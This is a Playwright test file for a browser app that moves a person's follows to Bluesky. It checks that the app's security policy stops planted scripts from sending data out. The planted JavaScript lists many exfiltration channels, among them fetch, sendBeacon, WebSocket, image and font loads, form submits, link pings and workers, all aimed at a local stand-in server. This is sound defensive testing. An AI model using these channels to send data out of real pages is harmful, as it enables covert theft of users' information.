"""Planted attempts to send something out: the browser stops them in every stage, a server hears.

The server is a real one, on a port that the page was never told. It keeps every byte, also of
requests that get no answer; a connection that is opened ahead and carries none is not counted
(no policy covers it: SECURITY.md names it). The same attempts at a host that was chosen
get through: so the test can fail.
"""

from __future__ import annotations

import json
import socket
import threading
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import parse_qs, urlsplit

import pytest
from playwright.sync_api import Route, expect

from archives import Person, Plan, write_archive
from browser.app import App
from browser.fixtures import PATIENCE, Traffic, let_reach
from browser.stand_in import stand_in

pytestmark = [pytest.mark.browser, pytest.mark.reopens]

ENGINE = Path(__file__).with_name("planted_engine.py")
APPVIEW = "https://appview.example"
OPEN = {"access-control-allow-origin": "*", "content-type": "application/json"}
ADA = Person("61", "ada_brumecourt", "Ada Brumecourt-Lavoisier", contacts=9)
HANDLE = "ada-brumecourt.bsky.social"
ANSWER = b"HTTP/1.1 200 OK\r\naccess-control-allow-origin: *\r\ncontent-length: 0\r\n\r\n"

ANYWHERE = """
  const tries = {
    fetch: () => fetch(url("fetch"), { mode: "no-cors" }),
    post: () => fetch(url("post"), { method: "POST", body: "names", mode: "no-cors" }),
    xhr: () => new Promise((done) => {
      const one = new XMLHttpRequest();
      one.onloadend = done; one.open("GET", url("xhr")); one.send();
    }),
    socket: () => new Promise((done) => {
      const one = new WebSocket(url("socket").replace("http", "ws"));
      one.onopen = one.onerror = one.onclose = done;
    }),
    events: () => new Promise((done) => {
      const one = new EventSource(url("events"));
      one.onopen = one.onerror = () => { one.close(); done(); };
    }),
    module: () => import(url("module.mjs")),
"""
IN_THE_WORKER = (
    ANYWHERE
    + """
    scripts: () => importScripts(url("scripts.js")),
    worker: () => new Worker(url("worker.js")),
"""
)
ON_THE_PAGE = (
    ANYWHERE
    + """
    beacon: () => navigator.sendBeacon(url("beacon"), "names"),
    keepalive: () => fetch(url("keepalive"), { keepalive: true, mode: "no-cors" }),
    image: () => loaded(Object.assign(new Image(), { src: url("image.png") })),
    script: () => put("script", { src: url("script.js") }),
    style: () => put("link", { rel: "stylesheet", href: url("style.css") }),
    prefetch: () => put("link", { rel: "prefetch", href: url("prefetch") }),
    preload: () => put("link", { rel: "preload", as: "fetch", href: url("preload") }),
    icon: () => put("link", { rel: "icon", href: url("icon.png") }),
    frame: () => put("iframe", { src: url("frame") }),
    object: () => put("object", { data: url("object") }),
    video: () => put("video", { src: url("video") }),
    font: () => new FontFace("Planted", `url(${url("font.woff2")})`).load(),
    form: () => {
      const form = Object.assign(document.createElement("form"), { action: url("form") });
      document.body.append(form); form.submit(); form.remove();
    },
    ping: () => {
      const link = Object.assign(document.createElement("a"), { href: "#main", ping: url("ping") });
      document.body.append(link); link.click(); link.remove();
    },
    worker: () => new Worker(url("worker.js")),
    shared: () => new SharedWorker(url("shared.js")),
"""
)
RUN = """
  };
  const stopped = [];
  for (const [name, attempt] of Object.entries(tries)) {
    try { await Promise.race([attempt(), new Promise((done) => setTimeout(done, 500))]); }
    catch (error) { stopped.push(name); }
  }
  return Object.keys(tries).length;
"""
HELP = """
  const url = (name) => `${where}/${name}?names=planted`;
  const loaded = (one) => new Promise((done) => { one.onload = one.onerror = done; });
  const put = async (tag, given) => {
    const one = Object.assign(document.createElement(tag), given);
    document.head.append(one); await loaded(one); one.remove();
  };
"""
PAGE = f"async (where) => {{ {HELP} {ON_THE_PAGE} {RUN} }}"
WORKER = f"(async (where) => {{ {HELP} {IN_THE_WORKER} {RUN} }})"
CALL = """async ([code, where]) => {
  const { xworker } = document.querySelector('script[name=engine]');
  return await xworker.sync.plant(code, where);
}"""


class Listener:
    """A server that only counts who comes, and what they bring."""

    def __init__(self) -> None:
        self.heard: list[bytes] = []
        self._socket = socket.create_server(("127.0.0.1", 0))
        self.url = f"http://127.0.0.1:{self._socket.getsockname()[1]}"
        threading.Thread(target=self._listen, daemon=True).start()

    def _listen(self) -> None:
        while True:
            try:
                come, _ = self._socket.accept()
            except OSError:
                return
            threading.Thread(target=self._hear, args=(come,), daemon=True).start()

    def _hear(self, come: socket.socket) -> None:
        with come:
            come.settimeout(5)
            try:
                said = come.recv(4096)
                come.sendall(ANSWER)
            except OSError:
                said = b""
            if said:
                self.heard.append(said)

    def close(self) -> None:
        """Listen no more."""
        self._socket.close()


@pytest.fixture
def listener() -> Iterator[Listener]:
    """A server on another port than the site's."""
    server = Listener()
    yield server
    server.close()


@pytest.fixture
def archive(tmp_path: Path) -> Path:
    """An archive of two people, one of whom is found."""
    path = tmp_path / "archive.zip"
    write_archive(path, Plan(people=(ADA,), unnamed=1))
    return path


def attempts(app: App, where: str) -> int:
    """Try everything, on the page and in the worker; return how many attempts were made."""
    page: int = app.page.evaluate(PAGE, where)
    worker: int = app.page.evaluate(CALL, [WORKER, where])
    # Time for what the browser sends when it finds the time.
    app.page.wait_for_timeout(300)
    return page + worker


def test_nothing_gets_out_in_any_stage(
    app: App, traffic: Traffic, archive: Path, listener: Listener
) -> None:
    """At the start, read, searching, reviewed, with pictures, and where one follows."""
    held: list[Route] = []

    def reply(route: Route) -> None:
        query = parse_qs(urlsplit(route.request.url).query)
        profile = {
            "did": "did:plc:ada",
            "handle": HANDLE,
            "displayName": ADA.name,
            "avatar": "https://faces.example/ada.png",
        }
        found = [profile] if HANDLE in query.get("actors", ()) else []
        body = json.dumps({"profiles": found, "actors": []})
        if not held:
            held.append(route)
            return
        route.fulfill(status=200, headers=OPEN, body=body)

    # What a browser stopped, Playwright may name as a request; the listener is the judge.
    traffic.allow(APPVIEW, listener.url, "https://faces.example", "ws" + listener.url[4:])
    app.page.context.route(f"{APPVIEW}/**", reply)
    app.page.context.route("https://faces.example/**", lambda one: one.fulfill(body=""))
    stand_in(app.page.context, ENGINE)

    def stage(name: str) -> None:
        assert attempts(app, listener.url) > 25
        assert listener.heard == [], name

    app.open("en")
    stage("start")
    app.choose(archive)
    expect(app.heading).to_have_text("You followed 2 accounts")
    stage("read")
    app.search(bluesky=APPVIEW)
    expect(app.page.locator("#stop")).to_be_visible(timeout=PATIENCE)
    stage("searching")
    reply(held[0])
    app.reviewed()
    stage("review")
    app.button("Show the pictures of accounts").click()
    expect(app.page.locator("img.face")).to_be_visible(timeout=PATIENCE)
    stage("pictures")
    app.button("Go on to the lists to take away").click()
    app.button("Follow directly").click()
    expect(app.heading).to_have_text("Follow directly")
    stage("follow")


def test_the_same_attempts_reach_a_host_that_was_chosen(
    app: App, traffic: Traffic, listener: Listener
) -> None:
    """So it is the policy that stops them, and not the way they are made."""
    traffic.allow(listener.url, "ws" + listener.url[4:])
    let_reach(app.page.context, listener.url)
    stand_in(app.page.context, ENGINE)
    app.open("en")
    attempts(app, listener.url)
    asked = {
        line.split()[1].decode().split("?")[0] for line in listener.heard if line.startswith(b"GET")
    }
    # Requests that the rest of the policy stops even there: code, styles, frames, pictures.
    assert {"/fetch", "/xhr", "/events", "/socket"} <= asked | {"/socket"}
    assert not asked & {"/script.js", "/style.css", "/frame", "/image.png", "/worker.js", "/object"}
    posts = {line.split()[1].split(b"?")[0] for line in listener.heard if line.startswith(b"POST")}
    assert b"/post" in posts
    assert b"/beacon" in posts
    assert b"/form" not in posts
